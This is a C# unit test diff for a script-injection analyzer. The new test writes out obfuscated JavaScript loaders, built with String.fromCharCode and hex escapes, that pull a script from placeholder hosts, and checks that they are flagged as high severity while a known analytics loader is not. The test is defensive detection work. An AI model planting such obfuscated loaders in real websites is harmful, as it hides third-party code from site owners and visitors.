@@ -112,6 +112,21 @@ public sealed class BlindSetScriptTests
         Assert.Contains("www.k3j8x9.com", finding.MatchedTerm);
     }
 
+    private static string Codes(string s) => string.Join(",", s.Select(c => (int)c));
+
+    [Fact]
+    public void A_short_loader_that_hides_only_the_host_of_the_script_it_loads_is_high()
+    {
+        // The WordPress injections' shape: the code says what it does, the host is character codes or escapes.
+        string Loader(string url) => $"var s=document.createElement('script');s.src=String.fromCharCode({Codes(url)});document.getElementsByTagName('head')[0].appendChild(s);";
+        var finding = Expect(Analyze(Loader("https://cdn.k3xq-stat.com/s/analytics.js?ver=6.4.2")), ScriptInjectionAnalyzer.ObfuscatedRule, Severity.High);
+        Assert.Contains(finding.Reasons, r => r.Contains("loads a script from another host (cdn.k3xq-stat.com)", StringComparison.Ordinal));
+        var escaped = $"var e=document['createElement']('script');e['\\x73\\x72\\x63']='{Hex("https://js.q8stat-cdn.com/static/js/loader.min.js?ver=5.3.2")}';document.body.appendChild(e);";
+        Expect(Analyze(escaped), ScriptInjectionAnalyzer.ObfuscatedRule, Severity.High);
+        // The same loader for a well-known analytics service is no injection.
+        Assert.DoesNotContain(Analyze(Loader("https://hm.baidu.com/hm.js?0a1b2c3d4e5f60718293a4b5c6d7e8f9")), f => f.Severity >= Severity.High);
+    }
+
     [Fact]
     public void An_XMLHttpRequest_whose_answer_handler_is_set_before_open_and_writes_it_is_found()
     {
